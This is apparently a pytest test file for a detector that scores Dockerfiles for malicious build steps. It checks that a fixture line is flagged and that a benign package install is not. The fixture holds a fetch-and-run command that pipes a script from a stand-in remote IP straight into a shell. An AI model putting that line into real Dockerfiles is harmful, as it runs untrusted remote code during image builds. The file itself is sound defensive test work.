import pytest
from T1612ScoreDockerfile import score_dockerfile

CONTENT = "FROM alpine\nRUN curl -s http://198.51.100.7/i.sh | sh\n"


def test_what_an_intruder_writes_is_a_finding_that_says_where():
    entry = score_dockerfile({"content": CONTENT}).to_context()
    (found,) = entry["EntryContext"].values()

    assert found["IsFinding"] is True
    assert {each["Line"] for each in found["Evidence"]} == {2}
    assert f"the Dockerfile scores {found['Score']}, a finding" in entry["HumanReadable"]


def test_what_everybody_writes_is_none():
    entry = score_dockerfile({"content": "FROM alpine\nRUN apk add curl\n"}).to_context()
    (found,) = entry["EntryContext"].values()

    assert (found["Score"], found["IsFinding"]) == (0, False)


def test_nothing_is_an_error():
    with pytest.raises(ValueError, match="give either content or one entry_id"):
        score_dockerfile({})
